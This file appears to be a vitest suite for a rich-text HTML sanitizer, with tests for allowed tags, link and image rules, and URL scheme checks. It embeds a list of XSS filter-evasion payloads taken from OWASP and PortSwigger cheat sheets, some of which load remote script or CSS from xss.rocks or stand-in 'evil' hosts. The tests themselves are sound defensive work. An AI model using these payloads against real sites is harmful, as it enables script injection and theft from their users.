import { describe, expect, it } from 'vitest';
import { richTextUrlAllowed, RICH_TEXT_TAGS } from '../../common/rich-text';
import { sanitizeRichText } from '../../server/schema-engine/rich-text';

/**
 * The shared allow-list as the server applies it on write (sanitize-html). The browser applies the
 * same list with DOMPurify on render; tests/e2e/rich-text.test.ts checks that side in a browser.
 */
const clean = sanitizeRichText;
const PAYLOAD = '<style>body{display:none}</style><form action=//evil><input></form><img src=x onerror=alert(1)><p>Kept</p>';

/** Nothing that runs script, restyles the page or posts anywhere may survive. */
function assertHarmless(html: string): void {
  expect(html).not.toMatch(/<\s*(script|style|form|input|button|iframe|frame|object|embed|svg|math|link|meta|base|textarea|select|template)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
  expect(html).not.toMatch(/(href|src)\s*=\s*"(?!https?:|mailto:)/i);
}

describe('rich text allow-list', () => {
  it('keeps formatting, lists, headings, quotes, code and rules', () => {
    const html = '<h1>T</h1><h2>a</h2><h3>b</h3><h4>c</h4><p><strong>s</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>x</s><br></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote><pre><code>c()</code></pre><hr>';
    expect(clean(html)).toBe('<h1>T</h1><h2>a</h2><h3>b</h3><h4>c</h4><p><strong>s</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>x</s><br /></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote><pre><code>c()</code></pre><hr />');
  });

  it('keeps web and mail links, opening in a new tab without access to the page', () => {
    expect(clean('<a href="https://vigil.example/help" title="Help">help</a>')).toBe('<a href="https://vigil.example/help" title="Help" target="_blank" rel="noopener noreferrer">help</a>');
    expect(clean('<a href="mailto:care@vigil.example" target="_self" rel="opener">mail</a>')).toBe('<a href="mailto:care@vigil.example" target="_blank" rel="noopener noreferrer">mail</a>');
  });

  it('keeps web images with their alt text, drops any other image', () => {
    expect(clean('<img src="https://vigil.example/watch.png" alt="The watch">')).toBe('<img src="https://vigil.example/watch.png" alt="The watch" />');
    expect(clean('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"><img src="x"><img>')).toBe('');
  });

  it('strips the payload of the issue: style, form, input and the onerror image go, the paragraph stays', () => {
    expect(clean(PAYLOAD)).toBe('<p>Kept</p>');
  });

  it('strips script, iframe, object, embed, svg and math with their content', () => {
    expect(clean('<script>alert(1)</script><iframe src="https://evil"></iframe><object data="x">o</object><embed src="x"><svg><g onload="alert(1)"/></svg><math><mi>x</mi></math><p>ok</p>')).toBe('<p>ok</p>');
  });

  it('strips on* handlers, style, class, id and data attributes', () => {
    expect(clean('<p onclick="alert(1)" style="display:none" class="c" id="i" data-x="1" onmouseover=alert(1)>t</p>')).toBe('<p>t</p>');
  });

  it('strips javascript:, data:, vbscript:, relative and protocol-relative link targets', () => {
    for (const href of ['javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'java&#x09;script:alert(1)', '&#106;avascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '/admin', '//evil.example']) {
      expect(clean(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
    }
  });

  it('the URL check reads the scheme as a browser does', () => {
    expect(richTextUrlAllowed('a', 'https://a.example')).toBe(true);
    expect(richTextUrlAllowed('a', 'mailto:a@b.example')).toBe(true);
    expect(richTextUrlAllowed('img', 'mailto:a@b.example')).toBe(false);
    expect(richTextUrlAllowed('a', 'java\nscript:alert(1)')).toBe(false);
    expect(richTextUrlAllowed('a', '\u0000javascript:alert(1)')).toBe(false);
    expect(richTextUrlAllowed('a', 'relative/path')).toBe(false);
  });

  // A few entries of the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet.
  const CHEAT_SHEET = [
    '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<iframe src=http://xss.rocks/scriptlet.html <',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<svg/onload=alert(\'XSS\')>',
    '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form><button formaction=javascript:alert(1)>x</button></form>',
    '<details open ontoggle=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<a href="https://ok.example" onclick="alert(1)">x</a><style>body{display:none}</style>',
  ];

  it.each(CHEAT_SHEET)('cheat sheet payload %# is harmless, and cleaning is stable', (payload) => {
    const once = clean(payload);
    assertHarmless(once);
    expect(clean(once)).toBe(once);
  });

  it('property: any mix of allowed and hostile fragments keeps the allowed text and nothing hostile', () => {
    const allowed = ['<p>para</p>', '<strong>bold</strong>', '<a href="https://x.example">link</a>', '<ul><li>item</li></ul>', '<h2>head</h2>', '<em>em</em>'];
    const hostile = [PAYLOAD, ...CHEAT_SHEET.slice(0, 12), '<div style="position:fixed;inset:0">', '<link rel=stylesheet href=https://evil/x.css>'];
    let seed = 7;
    const pick = <T>(list: readonly T[]): T => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return list[seed % list.length]!;
    };
    for (let run = 0; run < 300; run++) {
      const parts = Array.from({ length: 6 }, (_, i) => (i % 2 ? pick(hostile) : pick(allowed)));
      const out = clean(parts.join(''));
      assertHarmless(out);
      expect(clean(out)).toBe(out);
      for (const text of ['para', 'bold', 'link', 'item', 'head', 'em']) {
        if (parts.join('').includes(`>${text}<`)) expect(out).toContain(text);
      }
    }
  });

  it('every allowed tag is plain formatting', () => {
    expect(RICH_TEXT_TAGS.every((tag) => /^(p|br|strong|em|b|i|u|s|a|ul|ol|li|h[1-4]|blockquote|code|pre|hr|img)$/.test(tag))).toBe(true);
  });
});
